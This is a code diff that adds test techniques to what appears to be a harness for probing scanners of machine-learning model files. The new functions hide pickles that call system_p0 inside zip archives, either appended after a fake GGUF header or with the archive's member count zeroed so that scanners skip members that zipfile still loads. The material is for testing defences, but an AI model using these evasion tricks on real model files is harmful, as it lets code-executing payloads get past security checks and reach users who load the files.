@@ -315,6 +315,26 @@ def zip_after_gguf(path: Path, marker: Path) -> None:
     path.write_bytes(gguf_head + _zip({"evil.pkl": system_p0(marker)}))
 
 
+def _zip_count_zero(data: bytes) -> bytes:
+    """The end record's member counts set to 0: zipfile reads records while they fit in the
+    directory's size, whatever the count says."""
+    raw = bytearray(data)
+    struct.pack_into("<HH", raw, raw.rindex(b"PK\x05\x06") + 8, 0, 0)
+    return bytes(raw)
+
+
+@technique("zip-after-gguf-count-zero", "zipfile ignores the end record's member count", LOAD_MEMBERS,
+           ".gguf")
+def zip_after_gguf_count_zero(path: Path, marker: Path) -> None:
+    gguf_head = b"GGUF" + struct.pack("<IQQ", 3, 0, 0)
+    path.write_bytes(gguf_head + _zip_count_zero(_zip({"evil.pkl": system_p0(marker)})))
+
+
+@technique("zip-count-zero", "zipfile ignores the end record's member count", LOAD_MEMBERS, ".zip")
+def zip_count_zero(path: Path, marker: Path) -> None:
+    path.write_bytes(_zip_count_zero(_zip({"a.pkl": _benign(), "b.pkl": b"\x80\x02" + system_p0(marker)})))
+
+
 @technique("zip-after-junk-prefix", "JFrog: extra bytes before the archive", LOAD_MEMBERS, ".zip")
 def zip_after_junk(path: Path, marker: Path) -> None:
     path.write_bytes(b"#!/bin/sh\nexit 0\n" + _zip({"model.pkl": b"\x80\x02" + system_p0(marker)}))
